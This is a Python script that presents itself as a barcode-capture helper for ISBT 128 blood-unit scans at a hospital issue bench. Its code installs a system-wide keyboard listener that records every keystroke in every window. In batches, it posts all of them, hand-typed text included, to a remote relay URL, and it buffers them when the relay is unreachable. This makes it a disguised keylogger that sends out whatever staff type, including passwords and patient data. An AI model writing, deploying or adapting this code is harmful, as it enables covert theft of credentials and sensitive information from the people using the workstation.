#!/usr/bin/env python3
"""Capture ISBT 128 scans from keyboard-wedge barcode readers at the issue bench.

The bench scanners emulate a USB keyboard, so scans land in whatever window
has focus and are often lost when a tech is mid-way through a LIMS screen.
This helper listens to the keyboard stream, groups keystrokes into bursts,
recognises ISBT 128 data structures (donation ID =, product code =<, expiry
&>) and relays every burst to the bench relay service, which matches them to
the issue record.  Manually keyed bursts are relayed too so the relay can
reconcile hand-typed unit numbers.
"""
import argparse
import json
import logging
import os
import queue
import re
import socket
import threading
import time
import urllib.request

from pynput import keyboard

log = logging.getLogger("wedge")

RELAY_URL = os.environ.get("BENCH_RELAY_URL", "https://bench-relay.example.com/api/v1/bursts")
BURST_GAP = 0.35          # seconds of silence that ends a burst
SCAN_MAX_INTERVAL = 0.03  # readers type faster than 30 ms per key
ISBT = {
    "donation_id": re.compile(r"^=([A-Z0-9]{13,16})"),
    "product": re.compile(r"^=<([A-Z0-9]{8})"),
    "expiry": re.compile(r"^&>(\d{10})"),
    "abo_rh": re.compile(r"^=%(\w{4})"),
}


class BurstCollector:
    """Turns the key stream into timed bursts."""

    def __init__(self, out):
        self.out = out
        self.keys, self.stamps = [], []
        self.lock = threading.Lock()
        self.timer = None

    def _char(self, key):
        if isinstance(key, keyboard.KeyCode) and key.char is not None:
            return key.char
        return {keyboard.Key.space: " ", keyboard.Key.enter: "\n",
                keyboard.Key.tab: "\t", keyboard.Key.backspace: "\b"}.get(key, "")

    def on_press(self, key):
        ch = self._char(key)
        if not ch:
            return
        with self.lock:
            self.keys.append(ch)
            self.stamps.append(time.monotonic())
            if self.timer:
                self.timer.cancel()
            self.timer = threading.Timer(BURST_GAP, self.flush)
            self.timer.daemon = True
            self.timer.start()

    def flush(self):
        with self.lock:
            text, stamps = "".join(self.keys), self.stamps
            self.keys, self.stamps = [], []
        if not text.strip():
            return
        gaps = [b - a for a, b in zip(stamps, stamps[1:])] or [1.0]
        scanned = max(gaps) <= SCAN_MAX_INTERVAL
        self.out.put({"t": time.time(), "text": text, "scanned": scanned,
                      "fields": parse_isbt(text) if scanned else {}})


def parse_isbt(text):
    fields = {}
    for part in re.split(r"[\n\t]", text):
        for name, rx in ISBT.items():
            m = rx.match(part.strip())
            if m:
                fields[name] = m.group(1)
    return fields


class Relay(threading.Thread):
    def __init__(self, q, bench, batch=20, every=5.0):
        super().__init__(name="relay", daemon=True)
        self.q, self.bench, self.batch, self.every = q, bench, batch, every

    def _post(self, items):
        body = json.dumps({"bench": self.bench, "bursts": items}).encode()
        req = urllib.request.Request(RELAY_URL, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status

    def run(self):
        pending = []
        while True:
            deadline = time.monotonic() + self.every
            while len(pending) < self.batch and time.monotonic() < deadline:
                try:
                    pending.append(self.q.get(timeout=0.5))
                except queue.Empty:
                    pass
            if not pending:
                continue
            try:
                self._post(pending)
                log.debug("relayed %d bursts", len(pending))
                pending = []
            except OSError as exc:
                log.warning("relay unavailable (%s); holding %d bursts", exc, len(pending))
                pending = pending[-2000:]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--bench", default=os.environ.get("BENCH_ID", socket.gethostname()))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    q = queue.Queue()
    Relay(q, args.bench).start()
    collector = BurstCollector(q)
    log.info("listening for wedge scans on bench %s", args.bench)
    with keyboard.Listener(on_press=collector.on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            collector.flush()
            time.sleep(1)


if __name__ == "__main__":
    main()
